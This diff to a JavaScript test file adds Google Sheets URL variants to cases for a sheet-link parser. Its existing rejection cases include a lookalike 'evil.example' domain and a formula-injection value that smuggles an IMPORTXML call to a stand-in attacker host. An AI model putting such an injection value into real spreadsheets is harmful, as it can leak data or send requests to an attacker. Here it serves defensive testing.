@@ -9,6 +9,7 @@ it.each([
   [`https://docs.google.com/spreadsheets/d/${KEY}/edit?usp=sharing`],
   [`https://docs.google.com/spreadsheets/u/1/d/${KEY}/edit?gid=12#gid=12`],
   [`docs.google.com/spreadsheets/d/${KEY}`],
+  [`http://docs.google.com/spreadsheets/u/12/d/${KEY}/edit`],
   [`HTTPS://DOCS.GOOGLE.COM/spreadsheets/d/${KEY}`],
   [`https://drive.google.com/open?id=${KEY}&usp=drive_fs`],
   [`https://spreadsheets.google.com/ccc?hl=en&key=${KEY}#gid=0`],
@@ -86,6 +87,8 @@ it.each([
   [`https://docs.google.com/forms/d/${KEY}/viewform`, 'leads to no Google Sheet'],
   ['https://docs.google.com/spreadsheets/d/short/edit', 'leads to no Google Sheet'],
   [`https://docs.google.com/spreadsheets/d/e/2PACX-${KEY}/pubhtml`, 'published page'],
+  [`https://docs.google.com/spreadsheets/u/1/d/e/2PACX-${KEY}/pubhtml`, 'published page'],
+  [`https://docs.google.com/spreadsheets/u/12/d/e/2PACX-${KEY}/pubhtml`, 'published page'],
   [`https://docs.google.com.evil.example/spreadsheets/d/${KEY}`, 'no address'],
   ['https://docs.google.com/spreadsheets/d/","x!A1")&IMPORTXML("http://evil.example/', ''],
 ])('tells what is no sheet: %s', (text, problem) => {
